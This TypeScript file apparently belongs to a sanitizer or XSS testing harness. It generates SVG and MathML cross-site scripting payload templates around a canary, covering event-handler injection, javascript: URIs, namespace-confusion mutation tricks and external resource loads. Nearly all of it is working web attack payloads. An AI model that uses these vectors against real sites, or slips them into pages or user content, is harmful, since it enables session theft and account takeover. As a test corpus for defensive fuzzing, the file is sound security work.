import type { Family, Write } from './family';

const INSIDE_SVG: readonly Write[] = [
  ({ run }) => `<script>${run}</script>`,
  ({ run }) => `<script href="data:text/javascript,${encodeURIComponent(run)}"></script>`,
  ({ got }) => `<script xlink:href="${got}"></script>`,
  ({ run }) => `<g onload="${run}"></g>`,
  ({ run }) => `<image href=x: onerror="${run}"/>`,
  ({ got }) => `<image href="${got}" width=9 height=9 />`,
  ({ got }) => `<image xlink:href="${got}" width=9 height=9 />`,
  ({ got }) => `<feImage href="${got}"/>`,
  ({ got }) => `<use href="${got}#a"/>`,
  ({ run }) => `<a href="javascript:${run}"><text y=20>text</text></a>`,
  ({ run }) => `<a xlink:href="javascript:${run}"><rect width=99 height=99 /></a>`,
  ({ run }) => `<animate onbegin="${run}" attributeName=x dur=1s></animate>`,
  ({ run }) => `<set onbegin="${run}" attributeName=x to=1></set>`,
  ({ run }) => `<animateTransform onbegin="${run}" attributeName=transform></animateTransform>`,
  ({ run }) => `<a><animate attributeName=href values="javascript:${run}"/><text y=20>text</text></a>`,
  ({ run }) => `<a><set attributeName=href to="javascript:${run}"/><text y=20>text</text></a>`,
  ({ run }) => `<foreignObject><img src=x: onerror="${run}"></foreignObject>`,
  ({ run }) => `<foreignObject><iframe srcdoc="<script>${run}</script>"></iframe></foreignObject>`,
  ({ run }) => `<desc><img src=x: onerror="${run}"></desc>`,
  ({ run }) => `<title><img src=x: onerror="${run}"></title>`,
  ({ run }) => `<style><img src=x: onerror="${run}"></style>`,
  ({ got }) => `<style>@import '${got}';</style>`,
  ({ got }) => `<style>rect{fill:url(${got}#a);background:url(${got})}</style><rect width=9 height=9 />`,
  ({ run }) => `<discard onbegin="${run}"/>`,
  ({ run }) => `<![CDATA[><img src=x: onerror="${run}">]]>`,
  ({ run }) => `<p><img src=x: onerror="${run}">`,
];

const SHELLS: readonly ((inside: string) => string)[] = [
  (inside) => `<svg>${inside}</svg>`,
  (inside) => `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width=99>${inside}`,
  (inside) => `<math><mtext><svg>${inside}</svg></mtext></math>`,
];

export const SVG: Family = {
  name: 'SVG',
  texts: SHELLS.flatMap((shell) =>
    INSIDE_SVG.map(
      (write): Write =>
        (canary) =>
          shell(write(canary)),
    ),
  ),
};

export const MATHML: Family = {
  name: 'MathML',
  texts: [
    ({ run }) => `<math href="javascript:${run}">text</math>`,
    ({ run }) => `<math><mi href="javascript:${run}">x</mi></math>`,
    ({ run }) => `<math><mi xlink:href="javascript:${run}">x</mi></math>`,
    ({ run }) => `<math><maction actiontype="statusline#http://a" xlink:href="javascript:${run}">x</maction></math>`,
    ({ run }) => `<math><annotation-xml encoding="text/html"><img src=x: onerror="${run}"></annotation-xml></math>`,
    ({ run }) =>
      `<math><annotation-xml encoding="application/xhtml+xml"><script>${run}</script></annotation-xml></math>`,
    ({ run }) => `<math><mtext><img src=x: onerror="${run}"></mtext></math>`,
    ({ run }) => `<math><mglyph><style><img src=x: onerror="${run}"></style></mglyph></math>`,
    ({ run }) => `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x: onerror=${run}>">`,
    ({ run }) => `<math><mi//xlink:href="data:x,<script>${run}</script>">`,
    ({ run }) => `<math><semantics><mi onclick="${run}">x</mi></semantics></math>`,
    ({ run }) => `<math><ms><p><b onmouseover="${run}">x</b></p></ms></math>`,
    ({ run }) => `<math onfocus="${run}" tabindex=1 autofocus>x</math>`,
    ({ run }) => `<math><style><!--</style><a title="--><img src=x: onerror=${run}>"></math>`,
    ({ run }) => `<math><mn><svg onload="${run}"></svg></mn></math>`,
    ({ run }) => `</math><math><mo><iframe srcdoc="<script>${run}</script>"></iframe></mo></math>`,
    ({ got }) => `<math><mtext><img src="${got}"></mtext></math>`,
    ({ got }) => `<math><mspace style="background:url(${got})" width=9 height=9 /></math>`,
    ({ went }) => `<math><mrow href="${went}"><mi>x</mi></mrow></math>`,
    ({ run }) => `<math><![CDATA[<img src=x: onerror=${run}>]]><mtext></math>`,
  ],
};
